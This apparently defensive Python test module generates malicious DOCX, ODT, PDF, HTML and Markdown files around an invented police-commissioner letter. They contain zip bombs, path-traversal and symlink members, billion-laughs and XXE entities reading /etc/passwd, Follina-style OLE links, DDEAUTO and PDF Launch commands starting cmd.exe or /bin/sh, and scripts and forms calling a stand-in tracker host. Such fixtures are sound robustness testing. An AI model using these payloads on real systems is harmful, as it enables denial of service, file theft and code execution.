"""Letters made to harm: zips, XML, Word's and LibreOffice's own ways, PDFs, pages."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.drafts.building import docx, odt, paragraph, pdf, zipped

LETTER = "".join(
    paragraph(words)
    for words in (
        "Out on patrol: An inspection of invented ferries",
        "I write as Police and Crime Commissioner for Fernshire.",
        "Recommendation 1",
        "By 31 October 2025, forces should count their ferries.",
        "The force has bought a book in which each ferry will be entered. This will be done by 15 September 2025.",
    )
)
NAMES = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
         'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')  # fmt: skip
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OUTSIDE = "http://tracker.invalid/pixel"
MB = 1_000_000


def parts(data: bytes) -> dict[str, bytes]:
    """The parts of a zip."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Parts as a zip, packed by any method."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def with_part(name: str, data: bytes, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A faultless letter with one part put in or put in another's place."""
    return packed({**parts(docx(LETTER)), name: data}, method)


def related(*relations: tuple[str, str, bool], body: str = "") -> bytes:
    """A faultless letter whose document has these relationships: kind, target, whether that lies outside."""
    links = "".join(
        f'<Relationship Id="x{n}" Type="{OFFICE}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if outside else ""}/>'
        for n, (kind, target, outside) in enumerate(relations)
    )
    table = (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{links}</Relationships>'
    )
    files = {**parts(docx(LETTER + body)), "word/_rels/document.xml.rels": table.encode()}
    return packed(files)


def field(instruction: str) -> str:
    """A field of Word."""
    kinds = ("begin", "separate", "end")
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in kinds)
    return (
        f"<w:p>{begin}<w:r><w:instrText>{instruction}</w:instrText></w:r>{separate}<w:r><w:t>x</w:t></w:r>{end}</w:p>"
    )


def zeros(megabytes: int) -> bytes:
    """A deflated stream of so many megabytes of spaces, made piece by piece."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = b" " * MB
    return b"".join(packer.compress(piece) for _ in range(megabytes)) + packer.flush()


def raw_zip(members: list[tuple[str, bytes, int, int]], overlapping: bool = False) -> bytes:
    """A zip written by hand: name, deflated bytes, size and CRC as it says them; with all members over one another."""
    body, entries = b"", b""
    for n, (name, data, size, crc) in enumerate(members):
        at = 0 if overlapping and n else len(body)
        head = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(data), size, len(name), 0)
        if not (overlapping and n):
            body += b"PK\x03\x04" + head + name.encode() + data
        entries += b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, at) + name.encode()
    count = len(members)
    return body + entries + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(entries), len(body), 0)


def bomb(megabytes: int, declared: int | None = None) -> bytes:
    """A letter whose document unpacks to so many megabytes, whatever size it declares."""
    stream = zeros(megabytes)
    files = parts(docx(LETTER))
    members = []
    for name, data in files.items():
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        members.append((name, packer.compress(data) + packer.flush(), len(data), zlib.crc32(data)))
    members = [m for m in members if m[0] != "word/document.xml"]
    return raw_zip([*members, ("word/document.xml", stream, declared or megabytes * MB, 0)])


def many_parts() -> bytes:
    """The most members that a zip without the 64-bit form can have."""
    out = io.BytesIO(docx(LETTER))
    with zipfile.ZipFile(out, "a") as archive:
        for n in range(65_535 - len(archive.namelist())):
            archive.writestr(f"a{n}", b"")
    return out.getvalue()


def nested(depth: int, width: int) -> bytes:
    """Zips in zips, as 42.zip has them."""
    data = packed({"x": b" " * 10 * MB})
    for _ in range(depth):
        data = packed({f"{n}.zip": data for n in range(width)})
    return data


def linked() -> bytes:
    """A letter with a member that is a symbolic link."""
    out = io.BytesIO(docx(LETTER))
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/media/image1.png")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def twice() -> bytes:
    """A letter with two documents in it: one program shows the first, another one the last."""
    first = raw_zip([])
    files = parts(docx(LETTER))
    members = []
    for name, data in [
        *files.items(),
        ("word/document.xml", files["word/document.xml"].replace(b"ferries", b"bridges")),
    ]:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        members.append((name, packer.compress(data) + packer.flush(), len(data), zlib.crc32(data)))
    return raw_zip(members) or first


def body(inside: str, doctype: str = "") -> bytes:
    """A letter with a document part as written."""
    return with_part(
        "word/document.xml", f"{doctype}<w:document {NAMES}><w:body>{inside}</w:body></w:document>".encode()
    )


LAUGHS = "<!DOCTYPE d [<!ENTITY a0 'ha ha '>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)
) + "]>"  # fmt: skip
QUADRATIC = f"<!DOCTYPE d [<!ENTITY a '{'x' * 100_000}'>]>"

HEAVY_WORD = {
    "a million open fields": lambda: docx(LETTER + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 90_000),
    "fields within fields": lambda: docx(
        LETTER
        + '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="separate"/></w:r></w:p>' * 20_000
        + "<w:p><w:r><w:t>word</w:t></w:r></w:p>" * 20_000
    ),
    "bookmarks that never end": lambda: docx(
        LETTER
        + "".join(f'<w:bookmarkStart w:id="{n}" w:name="b{n}"/>' for n in range(40_000))
        + "<w:p><w:r><w:t>word</w:t></w:r></w:p>" * 20_000
    ),
    "comments that never end": lambda: docx(
        LETTER
        + "".join(f'<w:commentRangeStart w:id="{n}"/>' for n in range(30_000))
        + "<w:p><w:r><w:t>word</w:t></w:r></w:p>" * 20_000,
        comments="".join(f'<w:comment w:id="{n}"><w:p/></w:comment>' for n in range(30_000)),
    ),
    "a link for every word": lambda: related(
        *(("hyperlink", f"file:///c:/{n}", True) for n in range(8_000)),
        body="".join(f'<w:p><w:hyperlink r:id="x{n}"><w:r><w:t>w</w:t></w:r></w:hyperlink></w:p>' for n in range(8_000)),
    ),
    "styles that rest on one another": lambda: docx(
        LETTER + '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>w</w:t></w:r></w:p>' * 5_000,
        styles="".join(
            f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 5_000}"/></w:style>'
            for n in range(5_000)
        ),
    ),
    "lists without end": lambda: docx(
        LETTER
        + '<w:p><w:pPr><w:numPr><w:ilvl w:val="8"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>w</w:t></w:r></w:p>'
        * 20_000,
        numbering='<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="8"><w:start w:val="2147483647"/>'
        '<w:numFmt w:val="lowerRoman"/><w:lvlText w:val="%9%9%9%9%9%9"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
    ),
    "one paragraph of a million runs": lambda: docx(LETTER + "<w:p>" + "<w:r><w:t>a </w:t></w:r>" * 130_000 + "</w:p>"),
    "one word of ten million letters": lambda: docx(LETTER + paragraph("x" * 9_000_000)),
    "tables in tables": lambda: docx(
        LETTER + "<w:tbl><w:tr><w:tc>" * 60 + paragraph("w") + "</w:tc></w:tr></w:tbl>" * 60
    ),
    "insertions within insertions": lambda: docx(
        LETTER + "<w:p>" + '<w:ins w:id="1" w:author="A">' * 200 + "<w:r><w:t>w</w:t></w:r>" + "</w:ins>" * 200 + "</w:p>"
    ),
}  # fmt: skip

ZIPS: dict[str, Callable[[], bytes]] = {
    "bomb of 100 MB": lambda: bomb(100),
    "bomb of 2 GB": lambda: bomb(2_000),
    "bomb that declares one byte": lambda: bomb(1_000, 1),
    "bomb that declares 4 GB": lambda: bomb(50, 4_294_967_295),
    "bomb in a part beside": lambda: with_part("word/media/image1.png", b" " * 130 * MB),
    "bombs in twenty parts": lambda: packed(
        {**parts(docx(LETTER)), **{f"word/header{n}.xml": b"<a>" + b"<b/>" * 2_000_000 + b"</a>" for n in range(20)}}
    ),
    "bzip2 bomb": lambda: with_part("word/document.xml", b" " * 200 * MB, zipfile.ZIP_BZIP2),
    "lzma bomb": lambda: with_part("word/document.xml", b" " * 50 * MB, zipfile.ZIP_LZMA),
    "zips in zips": lambda: nested(4, 8),
    "parts over one another": lambda: raw_zip(
        [(f"word/part{n}.xml" if n else "[Content_Types].xml", zeros(5), 5 * MB, 0) for n in range(500)], True
    ),
    "65,535 members": many_parts,
    "a member that leads up": lambda: with_part("../../../outside.txt", b"x"),
    "an absolute member": lambda: with_part("/etc/cron.d/x", b"x"),
    "a member on a drive": lambda: with_part("C:\\Windows\\x.dll", b"x"),
    "a member that leads up with backslashes": lambda: with_part("word\\..\\..\\..\\x", b"x"),
    "a member that is a link": linked,
    "two documents": twice,
    "half of a letter": lambda: docx(LETTER)[: len(docx(LETTER)) // 2],
    "a directory alone": lambda: docx(LETTER)[-22:] * 3,
}

XML: dict[str, Callable[[], bytes]] = {
    "a billion laughs": lambda: body("<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>", LAUGHS),
    "a billion laughs in an attribute": lambda: body('<w:p w:rsidR="&a11;"/>', LAUGHS),
    "quadratic growth": lambda: body("<w:p><w:r><w:t>" + "&a;" * 20_000 + "</w:t></w:r></w:p>", QUADRATIC),
    "an entity from a file": lambda: body(
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    ),
    "an entity from the web": lambda: body(
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", f'<!DOCTYPE d [<!ENTITY x SYSTEM "{OUTSIDE}">]>'
    ),
    "a parameter entity": lambda: body("<w:p/>", f'<!DOCTYPE d [<!ENTITY % x SYSTEM "{OUTSIDE}"> %x;]>'),
    "an outer DTD": lambda: body("<w:p/>", f'<!DOCTYPE d SYSTEM "{OUTSIDE}/x.dtd">'),
    "XML that includes XML": lambda: body('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
    "a style sheet": lambda: body("<w:p/>", f'<?xml-stylesheet href="{OUTSIDE}.xsl"?>'),
    "100,000 levels": lambda: docx("<w:sdt><w:sdtContent>" * 100_000 + paragraph("w")),
    "250 levels": lambda: docx(LETTER + "<w:sdt><w:sdtContent>" * 110 + paragraph("w") + "</w:sdtContent></w:sdt>" * 110),
    "ten million tags": lambda: body("<w:p/>" * 3_900_000),
    "390,000 tags": lambda: body("<w:p/>" * 390_000),
    "an attribute of 9 MB": lambda: body(f'<w:p w:rsidR="{"x" * 9_000_000}"/>' + LETTER),
    "100,000 attributes": lambda: body("<w:p " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>" + LETTER),
    "100,000 namespaces": lambda: body("".join(f'<a xmlns="n{n}"/>' for n in range(100_000)) + LETTER),
    "a comment that never ends": lambda: body("<!--" + "x" * 1_000_000),
    "UTF-16 with a DTD": lambda: with_part(
        "word/document.xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "y">]><d>&x;</d>'.encode("utf-16")
    ),
    "a DTD in the relationships": lambda: with_part(
        "_rels/.rels", b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><Relationships>&x;</Relationships>'
    ),
    "a DTD in the content types": lambda: with_part(
        "[Content_Types].xml", b'<!DOCTYPE d [<!ENTITY x "wordprocessingml">]><Types>&x; wordprocessingml</Types>'
    ),
    "relationships in a circle": lambda: related(("officeDocument", "document.xml", False), ("header", "document.xml", False)),
}  # fmt: skip

WORD: dict[str, Callable[[], bytes]] = {
    "a picture on a server": lambda: related(
        ("image", f"{OUTSIDE}.png", True),
        body='<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="x0"/></w:drawing></w:r></w:p>',
    ),
    "a picture on a share": lambda: related(("image", "file:////tracker.invalid/share/p.png", True)),
    "a template on a server": lambda: related(("attachedTemplate", f"{OUTSIDE}.dotm", True)),
    "a frame": lambda: related(("frame", f"{OUTSIDE}.html", True)),
    "an OLE link (Follina)": lambda: related(
        ("oleObject", "mhtml:http://tracker.invalid/x.html!x-usc:http://tracker.invalid/x.html", True),
        body='<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" r:id="x0"/></w:object></w:r></w:p>',
    ),
    "altChunk": lambda: packed(
        {**parts(related(("aFChunk", "chunk.html", False), body='<w:altChunk r:id="x0"/>')),
         "word/chunk.html": b"<script>fetch('http://tracker.invalid')</script>"}
    ),
    "INCLUDEPICTURE": lambda: docx(LETTER + field(f'INCLUDEPICTURE "{OUTSIDE}.png" \\d')),
    "INCLUDETEXT": lambda: docx(LETTER + field('INCLUDETEXT "C:\\\\Users\\\\me\\\\secret.docx"')),
    "DDEAUTO": lambda: docx(LETTER + field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')),
    "DDE in a simple field": lambda: docx(LETTER + '<w:p><w:fldSimple w:instr="DDE Excel x y"/></w:p>'),
    "a script in a link": lambda: docx(LETTER + field('HYPERLINK "javascript:alert(1)"')),
    "macros": lambda: packed(
        {**parts(related(("vbaProject", "vbaProject.bin", False))), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"x" * 4000}
    ),
    "ActiveX": lambda: packed({**parts(related(("control", "activeX/activeX1.xml", False))), "word/activeX/activeX1.xml": b"<a/>"}),
    "an embedded program": lambda: packed(
        {**parts(related(("package", "embeddings/x.exe", False))), "word/embeddings/x.exe": b"MZ" + b"\0" * 500}
    ),
    **HEAVY_WORD,
}  # fmt: skip

ODT: dict[str, Callable[[], bytes]] = {
    "ODT bomb": lambda: packed({**parts(odt("<text:p>Dear Minister</text:p>")), "content.xml": b" " * 400 * MB}),
    "ODT laughs": lambda: packed(
        {**parts(odt("<text:p>w</text:p>")), "content.xml": f"{LAUGHS}<a>&a11;</a>".encode()}
    ),
    "ODT levels": lambda: odt("<text:section>" * 50_000 + "<text:p>w</text:p>"),
    "ODT of a billion spaces": lambda: odt('<text:p>a<text:s text:c="1000000000"/>b</text:p>' * 50),
    "ODT of a billion columns": lambda: odt(
        '<table:table><table:table-column table:number-columns-repeated="1000000000"/>'
        '<table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000">'
        "<text:p>w</text:p></table:table-cell></table:table-row></table:table>"
    ),
    "ODT styles in a circle": lambda: odt(
        '<text:p text:style-name="A">Dear Minister</text:p>',
        '<style:style style:name="A" style:family="paragraph" style:parent-style-name="B"/>'
        '<style:style style:name="B" style:family="paragraph" style:parent-style-name="A"/>',
    ),
    "ODT with a script": lambda: odt(
        '<text:p>Dear Minister<text:script xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://tracker.invalid/x.js"/></text:p>'
    ),
    "ODT with a section from elsewhere": lambda: odt(
        '<text:section><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file:///etc/passwd"/>'
        "<text:p>Dear Minister</text:p></text:section>"
    ),
    "ODT member that leads up": lambda: packed({**parts(odt("<text:p>w</text:p>")), "../../x": b"x"}),
}  # fmt: skip


def pdf_of(*objects: str | bytes, root: int = 1) -> bytes:
    """A PDF of objects as written, numbered from 1."""
    out = b"%PDF-1.7\n"
    places = []
    for n, each in enumerate(objects, 1):
        places.append(len(out))
        out += f"{n} 0 obj".encode() + (each if isinstance(each, bytes) else each.encode("cp1252")) + b"endobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    size = len(objects) + 1
    return (
        out
        + (
            f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer<</Size {size}/Root {root} 0 R>>\n"
            f"startxref\n{len(out)}\n%%EOF"
        ).encode()
    )


def stream(data: bytes, more: str = "") -> bytes:
    """A PDF stream."""
    return f"<</Length {len(data)}{more}>>stream\n".encode() + data + b"\nendstream"


def flate_bomb(megabytes: int, layers: int = 1) -> bytes:
    """A page whose words unpack to so many megabytes, packed once or more often."""
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b" " * MB) for _ in range(megabytes)) + packer.flush()
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    return pdf_of(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        stream(data, f"/Filter[{'/FlateDecode ' * layers}]"),
    )


def page(contents: str, more: str = "", *objects: str | bytes) -> bytes:
    """A PDF of one page with words, things drawn, and further objects from number 6 on."""
    words = f"BT /F1 11 Tf 1 0 0 1 70 700 Tm (Dear Minister) Tj ET {contents}"
    return pdf_of(
        f"<</Type/Catalog/Pages 2 0 R{more}>>",
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>/Contents 4 0 R>>",
        stream(words.encode()),
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *objects,
    )


PDFS: dict[str, Callable[[], bytes]] = {
    "pages in a circle": lambda: pdf_of(
        "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 1/Kids[3 0 R]>>", "<</Type/Pages/Count 1/Parent 2 0 R/Kids[2 0 R]>>"
    ),
    "pages that are their own": lambda: pdf_of("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>"),
    "a billion pages": lambda: pdf_of(
        "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count 1000000000/Kids[3 0 R]>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    ),
    "pages less than none": lambda: pdf_of("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Count -5/Kids[3 0 R]>>", "<<>>"),
    "1,000 pages": lambda: pdf(*[[(70, 700, "Dear Minister")]] * 1_000),
    "a tree of pages 10,000 deep": lambda: pdf_of(
        "<</Type/Catalog/Pages 2 0 R>>", *(f"<</Type/Pages/Count 1/Kids[{n} 0 R]>>" for n in range(3, 10_003)), "<</Type/Page>>"
    ),
    "stream bomb": lambda: flate_bomb(1_500),
    "stream bomb, packed thrice": lambda: flate_bomb(3_000, 3),
    "brackets 100,000 deep": lambda: page("[" * 100_000),
    "an object 100,000 deep": lambda: page("", "/X" + "[" * 100_000),
    "a form that draws itself": lambda: page(
        "/X Do", "", stream(b"/X Do /X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    ),
    "forms that draw forms": lambda: page(
        "/X Do", "",
        *(stream(b"/X Do " * 10, f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {n} 0 R>>>>") for n in range(7, 27)),
        stream(b"0 0 5 5 re f", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]"),
    ),
    "500,000 lines": lambda: page("0 0 m 9 9 l S " * 500_000),
    "a path of a million points": lambda: page("0 0 m " + "9 9 l 1 2 l " * 500_000 + "S"),
    "599,000 letters": lambda: page("BT /F1 1 Tf 1 0 0 1 9 9 Tm " + "(aaaaaaaaa ) Tj " * 59_900 + "ET"),
    "words all in one place": lambda: page("BT /F1 9 Tf " + "1 0 0 1 9 9 Tm (word) Tj " * 40_000 + "ET"),
    "a word a line": lambda: page("BT /F1 1 Tf " + "".join(f"1 0 0 1 9 {n / 50:.2f} Tm (word) Tj " for n in range(40_000)) + "ET"),
    "a page of a million miles": lambda: page("").replace(b"[0 0 595 842]", b"[0 0 1e30 1e30]"),
    "JavaScript": lambda: page("", "/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://tracker.invalid'\\))>>"),
    "a program to start": lambda: page("", "/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
    "a form to send": lambda: page("", "/OpenAction<</S/SubmitForm/F(http://tracker.invalid)>>/AcroForm<</XFA(<x/>)>>"),
    "a reference table in a circle": lambda: page("").replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 9 "),
    "metadata of 20 MB": lambda: pdf([(70, 700, "Dear Minister")]).replace(b"/Root 1 0 R", b"/Root 1 0 R/Info<</Title(" + b"x" * 20 * MB + b")>>"),
    "an object of nothing but zeros": lambda: b"%PDF-1.4\n" + b"\0" * 30 * MB,
    "'obj' a million times": lambda: b"%PDF-1.4\n" + b"1 0 obj<<" * 1_000_000,
}  # fmt: skip


def html(inside: str) -> bytes:
    """A page with a letter's words and more."""
    return f"<html><body><p>Dear Minister, I welcome this report.</p>{inside}</body></html>".encode()


PAGES: dict[str, Callable[[], bytes]] = {
    "scripts": lambda: html("<script>while(true){}</script><img src=x onerror='alert(1)'><iframe src='http://tracker.invalid'>"),
    "things to fetch": lambda: html(f"<link rel=stylesheet href={OUTSIDE}.css><img src={OUTSIDE}.png><object data={OUTSIDE}>"),
    "refresh": lambda: b"<html><meta http-equiv=refresh content='0;url=http://tracker.invalid'><p>Dear Minister, thank you.</p>",
    "a page 100,000 deep": lambda: html("<div>" * 100_000 + "w"),
    "a page 250 deep": lambda: html("<div>" * 250 + "words"),
    "bold 5,000 deep": lambda: html("<b>" * 5_000 + "words"),
    "lists in lists": lambda: html("<ul><li>" * 20_000 + "w"),
    "tables in tables, web": lambda: html("<table><tr><td>" * 5_000 + "w"),
    "an attribute of 15 MB": lambda: html(f"<p title='{'x' * 15_000_000}'>w</p>"),
    "100,000 attributes, web": lambda: html("<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">w</p>"),
    "299,000 tags": lambda: html("<p>w" * 49_000),
    "a cell of a billion columns": lambda: html("<table>" + "<tr><td colspan=999999 rowspan=999999>w" * 20_000 + "</table>"),
    "marks within marks": lambda: html("<mark>" * 240 + "word " * 15_000),
    "1,500 entities": lambda: html("&" + "amp;" * 1_500_000),
    "a DTD, web": lambda: b"<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><html><p>&x; Dear Minister</p>",
    "a style that never ends": lambda: html("<p style='" + "display:" * 1_000_000 + "'>w</p>"),
}  # fmt: skip

TEXTS: dict[str, Callable[[], bytes]] = {
    "brackets, Markdown": lambda: b"Dear Minister\n\n" + b"[" * 300_000,
    "stars, Markdown": lambda: b"Dear Minister\n\n" + b"*a " * 100_000,
    "quotes in quotes, Markdown": lambda: b"Dear Minister\n\n" + b">" * 50_000 + b" w",
    "lists in lists, Markdown": lambda: b"Dear Minister\n\n" + "".join(" " * n + "- w\n" for n in range(3_000)).encode(),
    "a table, Markdown": lambda: b"Dear Minister\n\n" + b"|a" * 30_000 + b"|\n" + b"|-" * 30_000 + b"|\n" + b"|a|\n" * 500,
    "backticks, Markdown": lambda: b"Dear Minister\n\n" + b"".join(b"`" * n + b" " for n in range(1, 1_500)),
    "by by by": lambda: b"Dear Minister\n\n" + b"by " * 200_000,
    "dates": lambda: b"Dear Minister\n\n" + b"1 January 2025 to 2 February " * 30_000,
    "numbers": lambda: b"Dear Minister\n\n" + b"1 " * 300_000,
    "one long word": lambda: b"Dear Minister\n\n" + b"a" * 5_000_000,
    "capitals": lambda: b"Dear Minister\n\n" + b"ABC " * 200_000,
    "opened brackets": lambda: b"Dear Minister\n\n" + b"(" * 500_000,
    "quotation marks": lambda: b"Dear Minister\n\n" + "“a ‘b ".encode() * 100_000,
    "recommendations": lambda: b"Dear Minister\n\n" + b"Recommendation 1 and 2 to 99\n\n" * 15_000,
    "placeholders": lambda: b"Dear Minister\n\n" + b"[insert [" * 60_000,
    "spaces": lambda: b"Dear Minister" + b" " * 5_000_000 + b".",
    "a sentence without end": lambda: b"Dear Minister\n\n" + b"the force will and the force has, " * 30_000,
    "terminal commands": lambda: b"Dear Minister\n\n\x1b]0;owned\x07\x1b[2J\x9b31m By March \xc2\x9b31m\x08\x08\r I will.\n",
    "words that turn about": lambda: "Dear Minister\n\n‮By March ⁦we will⁩ do it.\n".encode(),
}  # fmt: skip

DRAFTS: dict[str, tuple[str, dict[str, Callable[[], bytes]]]] = {
    "zip": (".docx", ZIPS),
    "XML": (".docx", XML),
    "Word": (".docx", WORD),
    "OpenDocument": (".odt", ODT),
    "PDF": (".pdf", PDFS),
    "web page": (".html", PAGES),
    "text": (".md", TEXTS),
}
"""By kind: the suffix, and what makes each file."""
SLOW = frozenset(HEAVY_WORD) | {"bomb of 2 GB", "bombs in twenty parts", "65,535 members", "zips in zips"}

__all__ = ["DRAFTS", "SLOW", "zipped"]
